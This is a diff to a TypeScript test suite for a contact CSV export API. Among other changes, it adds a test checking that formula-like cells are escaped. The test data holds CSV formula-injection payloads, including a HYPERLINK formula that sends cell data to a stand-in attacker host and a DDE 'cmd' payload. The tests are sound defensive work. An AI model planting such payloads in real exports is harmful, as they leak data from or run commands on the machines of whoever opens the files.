@@ -804,20 +804,19 @@ describe('CSV export', () => {
     const reader = res.body!.getReader();
     const decoder = new TextDecoder();
     let chunks = 0;
-    let cursorOpenAfterFirstChunk = false;
+    let openTransactionsWhileWaiting: unknown[] = [];
     for (;;) {
       const { done, value } = await reader.read();
       if (done) break;
       chunks += 1;
       parser.feed(decoder.decode(value, { stream: true }));
       if (chunks === 1) {
-        // The client has the first bytes while the server is still reading the contacts through its
-        // open database cursor (fetching, or waiting for the client between two batches).
+        // The client holds the first bytes and reads no more for a while: the server waits for it
+        // between two pages without a transaction (or a connection) of its own.
         await new Promise((r) => setTimeout(r, 200));
-        const active = await db.query<{ state: string }>(
-          `select state from pg_stat_activity where query = 'fetch forward 1000 from contacts_export' and pid <> pg_backend_pid()`,
-        );
-        cursorOpenAfterFirstChunk = active.rows.some((r) => r.state === 'active' || r.state === 'idle in transaction');
+        openTransactionsWhileWaiting = (
+          await db.query(`select query from pg_stat_activity where datname = current_database() and state like 'idle in transaction%' and pid <> pg_backend_pid()`)
+        ).rows;
       }
     }
     parser.feed(decoder.decode());
@@ -828,31 +827,81 @@ describe('CSV export', () => {
     expect(records).toBe(N + 1);
     const note = 'n'.repeat(100);
     expect(wanted.get(1)).toEqual(['Contact 000001', 'c1@example.com', '', 'false', 'Silver', note]);
-    expect(wanted.get(2)).toEqual(['Contact 000002', 'c2@example.com', '+4930000002', 'false', 'Silver', note]);
+    // a leading + is a formula trigger in spreadsheets: guarded with a quote (see the formula test)
+    expect(wanted.get(2)).toEqual(['Contact 000002', 'c2@example.com', "'+4930000002", 'false', 'Silver', note]);
     expect(wanted.get(7)).toEqual(['Contact 000007', 'c7@example.com', '', 'true', 'Silver', note]);
-    expect(wanted.get(10000)).toEqual(['Doe, "Jo"\nLine 10000', 'c10000@example.com', '+4930010000', 'false', 'Silver', note]);
+    expect(wanted.get(10000)).toEqual(['Doe, "Jo"\nLine 10000', 'c10000@example.com', "'+4930010000", 'false', 'Silver', note]);
     expect(wanted.get(99999)).toEqual(['Contact 099999', 'c99999@example.com', '', 'false', 'Gold', note]);
-    expect(wanted.get(N)).toEqual([`Doe, "Jo"\nLine ${N}`, `c${N}@example.com`, `+4930${N}`, 'false', 'Silver', note]);
+    expect(wanted.get(N)).toEqual([`Doe, "Jo"\nLine ${N}`, `c${N}@example.com`, `'+4930${N}`, 'false', 'Silver', note]);
     expect(chunks).toBeGreaterThan(10);
-    expect(cursorOpenAfterFirstChunk).toBe(true);
+    expect(openTransactionsWhileWaiting).toEqual([]);
     // the API runs in this process: its heap did not take the ~20 MB export (let alone 100,000 row objects)
     expect((peak - baseline) / 1024 / 1024).toBeLessThan(60);
   }, 120_000);
 
-  test('a client that goes away mid-export ends the read transaction', async () => {
-    const abort = new AbortController();
-    const res = await fetch(`${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name,note`, {
-      headers: { authorization: `Bearer ${acc.token}` },
-      signal: abort.signal,
-    });
-    const reader = res.body!.getReader();
-    await reader.read();
-    await reader.read();
-    abort.abort();
-    await reader.read().catch(() => undefined);
-    const open = async () =>
-      (await db.query(`select 1 from pg_stat_activity where query like 'fetch forward % from contacts_export' and state <> 'idle' and pid <> pg_backend_pid()`)).rowCount;
-    await eventually(async () => ((await open()) === 0 ? true : undefined), 10_000, 'the export transaction to end');
+  test('clients that go away mid-export free their export slots', async () => {
+    for (let i = 0; i < 2; i++) {
+      const abort = new AbortController();
+      const res = await fetch(`${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name,note`, {
+        headers: { authorization: `Bearer ${acc.token}` },
+        signal: abort.signal,
+      });
+      expect(res.status).toBe(200);
+      const reader = res.body!.getReader();
+      await reader.read();
+      await reader.read();
+      abort.abort();
+      await reader.read().catch(() => undefined);
+    }
+    // Both slots of the account (EXPORT_MAX_CONCURRENT_PER_ACCOUNT=2) are free again: two exports at once run.
+    const both = () =>
+      Promise.all(
+        [1, 2].map(async () => {
+          const res = await fetch(`${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name&q=nobody&header=false`, {
+            headers: { authorization: `Bearer ${acc.token}` },
+          });
+          await res.text();
+          return res.status;
+        }),
+      );
+    await eventually(async () => ((await both()).join() === '200,200' ? true : undefined), 10_000, 'two exports at once');
+    const open = await db.query(`select 1 from pg_stat_activity where datname = current_database() and state like 'idle in transaction%' and pid <> pg_backend_pid()`);
+    expect(open.rowCount).toBe(0);
+  });
+
+  test('cells that a spreadsheet would run as formulas come out guarded with a leading quote', async () => {
+    const acct = await signUp(stack, 'Export formulas');
+    await as(acct.token, 'POST', '/api/v1/contact-attributes', { key: 'note', label: 'Note', type: 'text' });
+    const inbox = await createInbox(acct.token, 'Formulas');
+    // Display names as anyone who writes to the support address chooses them.
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\tTab', '\rCR', "'=quoted", 'plain -1'];
+    for (const [i, name] of names.entries()) {
+      const res = await as<{ contactId: string }>(acct.token, 'POST', `/api/v1/inboxes/${inbox}/inbound-messages`, {
+        contact: { sourceId: `formula-${i}`, name },
+        content: 'hi',
+      });
+      expect(res.status).toBe(201);
+      if (i === 0) {
+        const patched = await as(acct.token, 'PATCH', `/api/v1/contacts/${res.body.contactId}`, { attributes: { note: "=cmd|' /C calc'!A0" }, phone: '+49 30 1234' });
+        expect(patched.status).toBe(200);
+      }
+    }
+    const res = await fetch(`${stack.baseUrl}/api/v1/contacts/export.csv?attributes=name,phone,note`, { headers: { authorization: `Bearer ${acct.token}` } });
+    expect(res.status).toBe(200);
+    expect(await res.text()).toBe(
+      [
+        'name,phone,note',
+        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+49 30 1234,'=cmd|' /C calc'!A0`,
+        "'+1+1,,",
+        "'-2+3,,",
+        "'@SUM(A1),,",
+        "'\tTab,,",
+        `"'\rCR",,`,
+        "''=quoted,,",
+        'plain -1,,',
+        '',
+      ].join('\r\n'),
+    );
   });
 
   test('exact output with quoting; default columns; filters; unknown attribute names the field', async () => {
@@ -872,7 +921,7 @@ describe('CSV export', () => {
     };
     expect(await text('/api/v1/contacts/export.csv')).toEqual({
       status: 200,
-      body: 'name,email,phone,vip,tier\r\n"Smith, ""Agent""\nSecond line",smith@example.com,,true,Gold\r\n=1+1 <b>,,,false,\r\n',
+      body: 'name,email,phone,vip,tier\r\n"Smith, ""Agent""\nSecond line",smith@example.com,,true,Gold\r\n\'=1+1 <b>,,,false,\r\n',
     });
     expect((await text(`/api/v1/contacts/export.csv?attributes=id,name&vip=true`)).body).toBe(`id,name\r\n${c},"Smith, ""Agent""\nSecond line"\r\n`);
     expect((await text(`/api/v1/contacts/export.csv?attributes=vip&q=nobody&header=false`)).body).toBe('');
